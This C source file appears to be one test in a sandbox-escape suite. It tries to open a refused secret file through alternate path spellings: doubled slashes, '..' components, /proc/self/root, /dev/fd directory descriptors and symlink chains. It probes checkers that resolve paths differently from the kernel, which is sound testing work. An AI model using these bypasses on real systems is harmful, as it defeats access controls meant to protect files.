/* e0301-open-paths - open() of the secret spelled every other way.
 *
 * Attack: a checker that compares the path as written, or resolves it
 * differently from the kernel, lets through another spelling of a refused
 * file: doubled slashes, "." and ".." components, a relative path from
 * the cwd, /proc/self/root and /proc/self/cwd, /dev/fd of a directory, a
 * symbolic link (or a chain of them) to the file or to its directory.
 * Source: Garfinkel 2003, "Traps and Pitfalls" (incorrectly replicating
 * the OS's path semantics).
 * Usage: e0301-open-paths SECRET */
#include <fcntl.h>
#include <libgen.h>
#include <limits.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>

#include "escape.h"

/* s with every "/" replaced by rep. */
static void respell(char *out, size_t cap, const char *s, const char *rep)
{
	size_t n = 0;
	for (; *s && n + strlen(rep) + 1 < cap; s++) {
		if (*s == '/') {
			memcpy(out + n, rep, strlen(rep));
			n += strlen(rep);
		} else {
			out[n++] = *s;
		}
	}
	out[n] = '\0';
}

int main(int argc, char **argv)
{
	esc_need_args(argc, 2, "e0301-open-paths SECRET");
	const char *secret = argv[1];
	char p[PATH_MAX * 2], up[PATH_MAX], dir[PATH_MAX], base[PATH_MAX];
	snprintf(dir, sizeof dir, "%s", secret);
	snprintf(base, sizeof base, "%s", secret);
	up[0] = '\0';
	for (int i = 0; i < 40; i++)	/* more ".." than any depth: stops at / */
		strcat(up, "../");

	esc_try_read("open SECRET", secret);
	respell(p, sizeof p, secret, "//");
	esc_try_read("open with doubled slashes", p);
	respell(p, sizeof p, secret, "/./");
	esc_try_read("open with /./ components", p);
	snprintf(p, sizeof p, "/usr/..%s", secret);
	esc_try_read("open via /usr/..", p);
	snprintf(p, sizeof p, "/usr/lib/../../%s", secret + 1);
	esc_try_read("open via /usr/lib/../..", p);
	snprintf(p, sizeof p, "%s%s", up, secret + 1);
	esc_try_read("open relative to the cwd with ..", p);
	snprintf(p, sizeof p, "/proc/self/root%s", secret);
	esc_try_read("open via /proc/self/root", p);
	snprintf(p, sizeof p, "/proc/thread-self/root%s", secret);
	esc_try_read("open via /proc/thread-self/root", p);
	snprintf(p, sizeof p, "/proc/self/cwd/%s%s", up, secret + 1);
	esc_try_read("open via /proc/self/cwd", p);
	snprintf(p, sizeof p, "/proc/%d/root%s", (int)getpid(), secret);
	esc_try_read("open via /proc/PID/root", p);

	int dfd = open(dirname(dir), O_PATH | O_DIRECTORY | O_CLOEXEC);
	esc_show_result("O_PATH open of the secret's directory", dfd);
	if (dfd >= 0) {
		snprintf(p, sizeof p, "/dev/fd/%d/%s", dfd, basename(base));
		esc_try_read("open via /dev/fd/DIRFD", p);
		close(dfd);
	}

	unlink("e0301-link");
	unlink("e0301-chain");
	unlink("e0301-dirlink");
	snprintf(dir, sizeof dir, "%s", secret);
	if (symlink(secret, "e0301-link") == 0 && symlink("e0301-link", "e0301-chain") == 0 &&
	    symlink(dirname(dir), "e0301-dirlink") == 0) {
		esc_try_read("open of a symlink to the secret", "e0301-link");
		esc_try_read("open of a symlink chain to the secret", "e0301-chain");
		snprintf(p, sizeof p, "e0301-dirlink/%s", basename(base));
		esc_try_read("open through a symlink to its directory", p);
		snprintf(p, sizeof p, "e0301-dirlink/./%s", basename(base));
		esc_try_read("open through the directory symlink and .", p);
	} else {
		esc_show_result("symlink", -1);
	}
	return 0;
}
